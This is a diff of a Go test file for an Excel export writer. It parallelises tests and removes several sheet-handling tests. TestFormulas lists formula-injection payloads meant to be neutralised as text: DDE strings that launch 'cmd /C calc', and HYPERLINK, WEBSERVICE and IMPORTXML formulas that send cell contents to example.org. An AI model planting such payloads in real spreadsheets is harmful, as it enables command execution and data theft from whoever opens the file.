@@ -1,10 +1,7 @@
 package excel
 
 import (
-	"bytes"
-	"math"
 	"math/rand/v2"
-	"os"
 	"slices"
 	"strconv"
 	"strings"
@@ -33,6 +30,7 @@ func textRow(t *testing.T, texts ...string) (*Writer, []string) {
 // formulas into every text column: all of it stays text, and the reader of the
 // tests refuses any formula or hyperlink.
 func TestFormulas(t *testing.T) {
+	t.Parallel()
 	payloads := []string{
 		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"a\")",
 		`=HYPERLINK("http://example.org/?x="&A1,"click")`, `=WEBSERVICE("http://example.org/")`, "http://example.org/", `=IMPORTXML(CONCAT("http://example.org/",A1),"//a")`,
@@ -66,6 +64,7 @@ func TestFormulas(t *testing.T) {
 // TestCellLimit cuts what a cell cannot hold, says how much is missing and
 // counts it.
 func TestCellLimit(t *testing.T) {
+	t.Parallel()
 	long, emoji := strings.Repeat("a", 40000), strings.Repeat("😀", 20000)
 	fits, emojiFits := strings.Repeat("a", maxCellUnits), "a"+strings.Repeat("😀", maxCellUnits/2)
 	x, read := textRow(t, long, emoji, "b"+emoji, fits, emojiFits, "b"+fits, long)
@@ -76,23 +75,26 @@ func TestCellLimit(t *testing.T) {
 		t.Error("text that fits was changed")
 	}
 	for i, source := range map[int]string{0: long, 1: emoji, 2: "b" + emoji, 5: "b" + fits, 6: long} {
-		kept, mark, found := strings.Cut(read[i], " … [cut: ")
-		missing, err := strconv.Atoi(strings.TrimSuffix(mark, " characters]"))
-		if !found || err != nil || !strings.HasPrefix(source, kept) {
-			t.Fatalf("%d ends in %q", i, read[i][len(read[i])-60:])
-		}
-		if n := len([]rune(kept)) + missing; n != len([]rune(source)) {
-			t.Errorf("%d accounts for %d characters", i, n)
-		}
-		if units := len(utf16.Encode([]rune(read[i]))); units > maxCellUnits || units < maxCellUnits-4 {
-			t.Errorf("%d has %d UTF-16 units", i, units)
-		}
+		t.Run(strconv.Itoa(i), func(t *testing.T) {
+			kept, mark, found := strings.Cut(read[i], " … [cut: ")
+			missing, err := strconv.Atoi(strings.TrimSuffix(mark, " characters]"))
+			if !found || err != nil || !strings.HasPrefix(source, kept) {
+				t.Fatalf("ends in %q", read[i][len(read[i])-60:])
+			}
+			if n := len([]rune(kept)) + missing; n != len([]rune(source)) {
+				t.Errorf("accounts for %d characters", n)
+			}
+			if units := len(utf16.Encode([]rune(read[i]))); units > maxCellUnits || units < maxCellUnits-4 {
+				t.Errorf("%d UTF-16 units", units)
+			}
+		})
 	}
 }
 
 // TestControlCharacters escapes what XML cannot hold, visibly, and counts
 // it.
 func TestControlCharacters(t *testing.T) {
+	t.Parallel()
 	for source, want := range map[string]string{
 		"a\x00b":               `a\u0000b`,
 		"\x01\x08\x0b\x0c\x1f": `\u0001\u0008\u000B\u000C\u001F`,
@@ -100,13 +102,15 @@ func TestControlCharacters(t *testing.T) {
 		"bad \xff\xc3 utf-8":   `bad \xFF\xC3 utf-8`,
 		"\xed\xa0\x80":         `\xED\xA0\x80`,
 	} {
-		x, read := textRow(t, source, source, "clean")
-		if read[0] != want || read[1] != want {
-			t.Errorf("%q: %q", source, read[0])
-		}
-		if x.Escaped() != 2 || x.Cut() != 0 {
-			t.Errorf("%q: escaped %d, cut %d", source, x.Escaped(), x.Cut())
-		}
+		t.Run(want, func(t *testing.T) {
+			x, read := textRow(t, source, source, "clean")
+			if read[0] != want || read[1] != want {
+				t.Errorf("%q", read)
+			}
+			if x.Escaped() != 2 || x.Cut() != 0 {
+				t.Errorf("escaped %d, cut %d", x.Escaped(), x.Cut())
+			}
+		})
 	}
 	clean := "\ttab \uFFFD \u007f \u0085 \u2028 \U0010FFFF"
 	if x, read := textRow(t, clean); read[0] != clean || x.Escaped() != 0 {
@@ -117,6 +121,7 @@ func TestControlCharacters(t *testing.T) {
 // TestEscapedAndCut does not cut inside an escape and counts an escape only
 // where it is still there.
 func TestEscapedAndCut(t *testing.T) {
+	t.Parallel()
 	x, read := textRow(t, strings.Repeat("\x00", 10000), strings.Repeat("a", 40000)+"\x00")
 	if x.Cut() != 2 || x.Escaped() != 1 {
 		t.Errorf("cut %d, escaped %d", x.Cut(), x.Escaped())
@@ -131,6 +136,7 @@ func TestEscapedAndCut(t *testing.T) {
 // excelize alone loses the second of two that share an underscore and drops
 // surrogates.
 func TestLiteralEscapes(t *testing.T) {
+	t.Parallel()
 	texts := []string{
 		"_x0041_", "a_x0041_b", "_x0041_x0042_", "_x0041__x0042_", "_xD800_", "a_xDFFF_b", "_x005F_x0041_", "_x005F_", "_x005f_x005f_x0041_",
 		"_x000D_", "_x41_", "_x4_", "_x00041_", "_x_", "_x004g_", "__x0041_", "_x0041", "_X0041_", "eyJ_xAb_cd", "_x000D_\r\n<&>\"' ", " _x0041_ ",
@@ -142,6 +148,7 @@ func TestLiteralEscapes(t *testing.T) {
 
 // TestAnyText writes random texts of the characters that matter.
 func TestAnyText(t *testing.T) {
+	t.Parallel()
 	r := rand.New(rand.NewPCG(1, 1))
 	parts := []string{"_", "_", "x", "x", "_x", "0", "4", "1", "D8", "005F", "000D", "\r", "\n", "\t", " ", "&", "<", `"`, "😀", "ä"}
 	texts := make([]string, 3000)
@@ -161,123 +168,10 @@ func TestAnyText(t *testing.T) {
 // TestLineEnds keeps all line ends: XML readers turn bare CR and CR LF into
 // LF.
 func TestLineEnds(t *testing.T) {
+	t.Parallel()
 	texts := []string{"a\r\nb", "a\rb", "a\nb", "\r", "\r\n", "\n", "a\n\r\nb\r", " \t\r\n"}
 	if _, read := textRow(t, texts...); !slices.Equal(read, texts) {
 		t.Errorf("read %q", read)
-	}
-}
-
-// TestSheetNames refuses names that are taken or reserved, in any case.
-func TestSheetNames(t *testing.T) {
-	var out bytes.Buffer
-	x, _ := newTestExcel(t, &out, nil)
-	defer x.Abort()
-	frame := func(name string, index int) error {
-		p := &page{name: name, look: pageLook{tab: navy, columns: shownColumns(9)}}
-		return (&pageFrame{x.parts.book.file, p}).make(index)
-	}
-	for i, name := range []string{summarySheet, signInSheet} {
-		if err := frame(name, i); err != nil {
-			t.Fatal(err)
-		}
-	}
-	for _, name := range []string{"SUMMARY", "sign-INS", "History", "hIsToRy", "", "a/b", "'a", strings.Repeat("a", 32)} {
-		t.Run(name, func(t *testing.T) {
-			if err := frame(name, 2); err == nil {
-				t.Errorf("%q was accepted", name)
-			}
-		})
-	}
-}
-
-// TestSpillFiles leaves no spill file, neither after Close nor after Abort,
-// and makes none elsewhere.
-func TestSpillFiles(t *testing.T) {
-	elsewhere := t.TempDir()
-	t.Setenv("TMPDIR", elsewhere)
-	big := excelBatch(540, func(row int, c *[schema.NumColumns]schema.Vector) {
-		c[schema.Extra].SetText(row, strings.Repeat("x", 32000)+strconv.Itoa(row))
-	})
-	for name, end := range map[string]func(*Writer) error{
-		"close": (*Writer).Close,
-		"abort": func(x *Writer) error { x.Abort(); return nil },
-	} {
-		var out bytes.Buffer
-		x, dir := newTestExcel(t, &out, nil)
-		if err := x.Write(big); err != nil {
-			t.Fatal(err)
-		}
-		if entries, err := os.ReadDir(dir); err != nil || len(entries) == 0 {
-			t.Errorf("%s: no spill file before: %v", name, err)
-		}
-		if err := end(x); err != nil {
-			t.Fatal(err)
-		}
-		wantNoFiles(t, dir)
-		wantNoFiles(t, elsewhere)
-		if name == "close" {
-			if rows := readExcel(t, out.Bytes()).sheets[signInSheet].rows; len(rows) != 541 {
-				t.Errorf("%d rows", len(rows))
-			}
-		}
-	}
-}
-
-// TestSheetSplit begins a new sheet where one is full; together they have
-// all rows, in order.
-func TestSheetSplit(t *testing.T) {
-	cases := map[string]func(*Writer){
-		"rows":  func(x *Writer) { x.parts.book.limits.rows = 10 },
-		"bytes": func(x *Writer) { x.parts.book.limits.xml = headerSize(x) + 560 },
-	}
-	for name, limit := range cases {
-		var out bytes.Buffer
-		x, _ := newTestExcel(t, &out, nil)
-		limit(x)
-		for n := range 3 {
-			err := x.Write(excelBatch(8, func(row int, c *[schema.NumColumns]schema.Vector) {
-				c[schema.ID].SetText(row, strconv.Itoa(n*8+row)+strings.Repeat(`"`, 20))
-			}))
-			if err != nil {
-				t.Fatal(err)
-			}
-		}
-		if err := x.Close(); err != nil {
-			t.Fatal(err)
-		}
-		book := readExcel(t, out.Bytes())
-		want := []string{"Summary", "Sign-ins", "Sign-ins 2", "Sign-ins 3", "Conditional access"}
-		if !slices.Equal(book.names[:5], want) {
-			t.Fatalf("%s: sheets %q", name, book.names)
-		}
-		next := 0
-		for _, sheet := range want[1:4] {
-			if title := book.sheets[sheet].rows[0]["A"].text; title != "Date (UTC)" {
-				t.Errorf("%s: %s begins with %q", name, sheet, title)
-			}
-			for _, row := range book.sheets[sheet].table() {
-				if got := strings.TrimRight(row["Request ID"].text, `"`); got != strconv.Itoa(next) {
-					t.Errorf("%s: row %s, want %d", name, got, next)
-				}
-				next++
-			}
-		}
-		if next != 24 || x.Rows() != 24 {
-			t.Errorf("%s: %d rows, Rows %d", name, next, x.Rows())
-		}
-	}
-}
-
-// TestRealLimit is the limit of the format: header and rows fill a sheet.
-func TestRealLimit(t *testing.T) {
-	if maxPageRows+1 != 1048576 {
-		t.Errorf("limit %d", maxPageRows)
-	}
-	// The row that reaches the limit of bytes may be the largest there is: an
-	// ampersand is five bytes in XML.
-	const largest, around = int(numSheetColumns) * maxCellUnits * len("&amp;"), 1 << 20
-	if maxPageXML+largest+around > math.MaxInt32 {
-		t.Errorf("a sheet may have %d bytes", maxPageXML+largest+around)
 	}
 }
 
@@ -298,14 +192,4 @@ func FuzzExcelText(f *testing.F) {
 			t.Errorf("%q: %d UTF-16 units", text, units)
 		}
 	})
-}
-
-// headerSize returns the size of a page of Sign-ins without rows.
-func headerSize(x *Writer) int64 {
-	for _, s := range x.sheets {
-		if w, ok := s.(*signInSheetWriter); ok {
-			return w.series.page().xml.fullSize()
-		}
-	}
-	return 0
 }
